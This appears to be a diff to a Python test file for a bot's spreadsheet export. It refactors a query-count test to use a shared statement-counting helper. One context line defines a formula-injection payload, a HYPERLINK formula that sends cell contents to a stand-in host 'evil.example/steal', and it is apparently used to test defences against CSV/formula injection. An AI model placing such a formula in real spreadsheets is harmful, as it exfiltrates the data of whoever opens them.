@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 from openpyxl.utils import get_column_letter
-from sqlalchemy import event, select
+from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
 from bot.export.sheets import NOT_YET_HELD
@@ -48,6 +48,7 @@ from db.models import (
 )
 from tests.fixtures.bot import COORDINATOR, NOW, PARTICIPANT
 from tests.support.evaluations import Q, make_form
+from tests.support.statements import statements
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
 SHEETS = [
@@ -396,27 +397,17 @@ def test_one_cohorts_export_leaves_the_others_out(seeded: sessionmaker[Session])
 def test_the_number_of_queries_does_not_grow_with_the_number_of_participants(
     db: sessionmaker[Session],
 ) -> None:
-    def statements(extra: int) -> int:
+    def statement_count(extra: int) -> int:
         with unit_of_work(db) as session:
             seed(session, extra_participants=extra)
-        engine = db.kw["bind"]
-        counted: list[str] = []
-
-        def count(*_args: Any) -> None:
-            counted.append("statement")
-
-        event.listen(engine, "before_cursor_execute", count)
-        try:
-            with unit_of_work(db) as session:
-                export_tables(session, NOW)
-        finally:
-            event.remove(engine, "before_cursor_execute", count)
+        with statements(db.kw["bind"]) as counted, unit_of_work(db) as session:
+            export_tables(session, NOW)
         with unit_of_work(db) as session:
             for table in reversed(Programme.metadata.sorted_tables):
                 session.execute(table.delete())
         return len(counted)
 
-    assert statements(0) == statements(25)
+    assert statement_count(0) == statement_count(25)
 
 
 def test_error_codes_stay_text_and_control_characters_are_dropped() -> None:
